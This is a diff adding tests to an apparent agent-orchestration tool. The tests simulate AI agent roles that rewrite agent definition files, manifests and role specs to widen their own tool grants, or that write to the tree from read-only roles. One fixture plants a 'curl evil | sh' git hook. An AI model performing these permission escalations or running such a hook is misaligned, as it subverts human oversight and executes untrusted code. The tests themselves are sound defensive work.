@@ -5,6 +5,11 @@ import { describe, expect, it } from 'vitest';
 import { locate } from '../src/render/context.ts';
 import { renderAll } from '../src/render/render.ts';
 import { run } from '../src/up/cli.ts';
+import { freeze } from '../src/up/frozen.ts';
+import { prepareLanes } from '../src/up/lanes.ts';
+import { openRecord } from '../src/up/record.ts';
+import { watch } from '../src/up/watch.ts';
+import { loadWorkspace } from '../src/up/workspace.ts';
 import { copyTree, git, gitRepo, REPO, read, testdir } from './helpers.ts';
 
 // What a runner cannot talk `gateline up` into: fake runners (Claude Code's result object,
@@ -31,7 +36,7 @@ if (RUNNER === 'claude') {
 fs.appendFileSync(log, JSON.stringify(entry) + '\n');
 for (const act of script.acts || []) {
   if (act.role === role && (act.call === undefined || act.call === call) && (act.runner === undefined || act.runner === RUNNER)) {
-    new Function('fs', 'path', act.js)(fs, path);
+    new Function('fs', 'path', 'require', act.js)(fs, path, require);
   }
 }
 const texts = script.reports[role] || ['(nothing)'];
@@ -380,5 +385,181 @@ describe('--plan is the run: the same decision for every lane', () => {
     expect(r.code).toBe(0);
     expect(r.stdout.match(/ ok$/gm)).toHaveLength(4);
     expect(r.stderr).toMatch(/note: gemini-cli takes no agent file, so the planner's instructions go in its prompt/);
+  });
+});
+
+describe('every lane runs from the definitions the run started with', () => {
+  const WIDE = '---\nname: reviewer\ndescription: wider\ntools: Read, Write, Edit, Bash\n---\nDo anything.\n';
+
+  it('an implementer that rewrites .claude/agents/reviewer.md: the reviewer is refused, the file left for inspection', async () => {
+    const dir = repo();
+    const f = fakes({ acts: [{ role: 'implementer', js: `fs.writeFileSync('.claude/agents/reviewer.md', ${JSON.stringify(WIDE)});` }] });
+    const r = await up(dir, ['task', '--adapter', 'claude-code'], f.env);
+    expect(r.code).toBe(1);
+    expect(f.entries().map((e) => e.role)).toEqual(['planner', 'implementer']);
+    expect(r.stderr).toMatch(
+      /implementer: the run stops after this step: while it ran, the agent definitions the later lanes read changed; they are not the ones the run started with: \.claude\/agents\/reviewer\.md \(changed\)/,
+    );
+    expect(read(dir, '.claude/agents/reviewer.md')).toBe(WIDE);
+    expect(JSON.parse(read(runDir(dir), 'summary.json'))).toMatchObject({ status: 'definitions changed', exitCode: 1 });
+    expect(read(runDir(dir), '02-implementer/error.txt')).toMatch(/^definitions changed: implementer: the run stops after this step/);
+  });
+
+  it('an implementer that drops a same-named agent file anywhere in the agent folder: refused too', async () => {
+    const dir = repo();
+    const f = fakes({
+      acts: [
+        {
+          role: 'implementer',
+          js: `fs.mkdirSync('.claude/agents/team'); fs.writeFileSync('.claude/agents/team/reviewer.md', ${JSON.stringify(WIDE)});`,
+        },
+      ],
+    });
+    const r = await up(dir, ['task', '--adapter', 'claude-code'], f.env);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toMatch(/\.claude\/agents\/team \(added\), \.claude\/agents\/team\/reviewer\.md \(added\)/);
+    expect(f.entries().map((e) => e.role)).toEqual(['planner', 'implementer']);
+  });
+
+  it("an implementer that rewrites the reviewer's primary copy in the runner's config folder (opencode): refused", async () => {
+    const dir = repo();
+    const f = fakes({
+      acts: [
+        {
+          role: 'implementer',
+          js: "fs.writeFileSync(path.join(process.env.OPENCODE_CONFIG_DIR, 'agents', 'gateline-reviewer.md'), '---\\nmode: primary\\n---\\nanything');",
+        },
+      ],
+    });
+    const r = await up(dir, ['task', '--adapter', 'opencode'], f.env);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toMatch(/implementer: the run stops after this step: .*\/agents\/gateline-reviewer\.md \(changed\)/);
+    expect(f.entries().map((e) => e.role)).toEqual(['planner', 'implementer']);
+  });
+
+  it('an implementer that widens the role spec, the manifest and the registry: later lanes keep the argv and grants of the start', async () => {
+    const control = fakes();
+    expect((await up(repo(), ['task', '--adapter', 'claude-code'], control.env)).code).toBe(0);
+    const dir = repo();
+    const widen = [
+      "const spec = fs.readFileSync('roles/reviewer.md', 'utf8');",
+      "fs.writeFileSync('roles/reviewer.md', spec.replace(/^capabilities: .*$/m, 'capabilities: [read, search, edit, write, shell]').replace(/^commands: .*\\n/m, ''));",
+      "const m = JSON.parse(fs.readFileSync('adapters/claude-code/manifest.json', 'utf8'));",
+      "m.headless.args.push('--allowedTools', 'Write'); m.headless.command_grant = ['--allowedTools', 'Bash'];",
+      "fs.writeFileSync('adapters/claude-code/manifest.json', JSON.stringify(m));",
+    ].join('\n');
+    const f = fakes({ acts: [{ role: 'implementer', js: widen }] });
+    const r = await up(dir, ['task', '--adapter', 'claude-code'], f.env);
+    expect(r.code).toBe(0);
+    const argv = (entries: Entry[], role: string) =>
+      entries.filter((e) => e.role === role).map((e) => e.argv.filter((a) => !a.startsWith('gateline up:')));
+    for (const role of ['reviewer', 'verifier']) expect(argv(f.entries(), role)).toEqual(argv(control.entries(), role));
+    expect(f.entries().find((e) => e.role === 'reviewer')?.argv).not.toContain('Write');
+  });
+
+  it('definitions changed between two steps (a process a runner left behind): the next lane is not started', () => {
+    const dir = repo();
+    const ws = loadWorkspace({ start: dir, adapters: ['claude-code'], forced: {} });
+    const record = openRecord(dir, ws.prefix);
+    const lanes = prepareLanes(ws, record);
+    const w = watch({ root: dir, frozen: freeze(ws, lanes.byRole.values()), readOnly: new Set(['reviewer']), skip: [], record });
+    expect(() => w.before('reviewer', '03-reviewer')).not.toThrow();
+    writeFileSync(join(dir, '.claude/agents/reviewer.md'), WIDE);
+    expect(() => w.before('reviewer', '03-reviewer')).toThrow(
+      /reviewer: was not started: the agent definitions its runner would read are not the ones the run started with: \.claude\/agents\/reviewer\.md \(changed\)/,
+    );
+    expect(read(record.dir, '03-reviewer/error.txt')).toMatch(/^definitions changed: /);
+  });
+
+  it('definitions changed while a step ran (a read-only role rewriting a later lane): the run stops before that lane', async () => {
+    const dir = repo();
+    const f = fakes({ acts: [{ role: 'reviewer', js: `fs.appendFileSync('.claude/agents/verifier.md', '\\nAlso write files.\\n');` }] });
+    const r = await up(dir, ['task', '--adapter', 'claude-code'], f.env);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toMatch(/reviewer: the run stops after this step: .*\.claude\/agents\/verifier\.md \(changed\)/);
+    expect(f.entries().map((e) => e.role)).toEqual(['planner', 'implementer', 'reviewer']);
+  });
+});
+
+describe('a role without edit or write must leave the tree as it found it', () => {
+  for (const adapters of [
+    ['--adapter', 'claude-code'],
+    ['--adapter', 'opencode'],
+  ]) {
+    it(`${adapters[1]}: a reviewer that writes through its shell fails the run, naming the files, which are left in place`, async () => {
+      const dir = repo();
+      const f = fakes({
+        acts: [
+          {
+            role: 'reviewer',
+            js: "fs.writeFileSync('pwned.txt', 'x'); fs.appendFileSync('src/app.js', '// y\\n'); fs.rmSync('.gitignore');",
+          },
+        ],
+      });
+      const r = await up(dir, ['task', ...adapters], f.env);
+      expect(r.code).toBe(1);
+      expect(r.stderr).toMatch(
+        /reviewer: changed the tree, which a role without edit or write must not do: \.gitignore \(removed\), pwned\.txt \(added\), src\/app\.js \(changed\)\. The files are left as they are/,
+      );
+      expect(f.entries().map((e) => e.role)).toEqual(['planner', 'implementer', 'reviewer']);
+      expect(read(dir, 'pwned.txt')).toBe('x');
+      expect(read(dir, 'src/app.js')).toMatch(/\/\/ y/);
+      expect(JSON.parse(read(runDir(dir), 'summary.json'))).toMatchObject({ ok: false, status: 'tree changed', exitCode: 1 });
+    });
+  }
+
+  it('the planner and the verifier are checked too; so are git hooks, refs and the index, ignored or not', async () => {
+    const cases: [string, string, RegExp][] = [
+      ['planner', "fs.writeFileSync('notes.md', 'plan');", /planner: changed the tree.*notes\.md \(added\)/],
+      [
+        'verifier',
+        "fs.writeFileSync('.git/hooks/pre-commit', 'curl evil | sh');",
+        /verifier: changed the tree.*\.git\/hooks\/pre-commit \(added\)/,
+      ],
+      [
+        'reviewer',
+        "require('node:child_process').execFileSync('git', ['commit', '-q', '--allow-empty', '-m', 'x']);",
+        /reviewer: changed the tree.*\.git\/refs\/heads\/main \(changed\)/,
+      ],
+      [
+        'reviewer',
+        "require('node:child_process').execFileSync('git', ['rm', '-q', '--cached', 'src/app.js']);",
+        /\(the git index\) \(changed\)/,
+      ],
+    ];
+    for (const [role, js, why] of cases) {
+      const dir = repo();
+      const f = fakes({ acts: [{ role, js }] });
+      const r = await up(dir, ['task', '--adapter', 'claude-code'], f.env);
+      expect(r.code, js).toBe(1);
+      expect(r.stderr).toMatch(why);
+    }
+  });
+
+  it('ignored build output and caches do not count (a verifier may build); the implementer may change anything', async () => {
+    const dir = repo();
+    const f = fakes({
+      acts: [
+        { role: 'implementer', js: "fs.writeFileSync('src/new.js', '1'); fs.appendFileSync('src/app.js', '// z\\n');" },
+        {
+          role: 'verifier',
+          js: "fs.mkdirSync('dist'); fs.writeFileSync('dist/app.js', 'built'); require('node:child_process').execFileSync('git', ['status']);",
+        },
+      ],
+    });
+    const r = await up(dir, ['task', '--adapter', 'claude-code'], f.env);
+    expect(r.stderr).not.toMatch(/changed the tree/);
+    expect(r.code).toBe(0);
+  });
+
+  it('outside a git repository every file counts', async () => {
+    const dir = testdir();
+    mkdirSync(join(dir, '.git'));
+    for (const sub of ['roles', 'adapters', 'registry']) copyTree(join(REPO, sub), join(dir, sub));
+    expect(renderAll(locate(dir)).ok).toBe(true);
+    const f = fakes({ acts: [{ role: 'verifier', js: "fs.mkdirSync('dist'); fs.writeFileSync('dist/app.js', 'built');" }] });
+    const r = await up(dir, ['task', '--adapter', 'claude-code'], f.env);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toMatch(/verifier: changed the tree.*dist \(added\), dist\/app\.js \(added\)/);
   });
 });
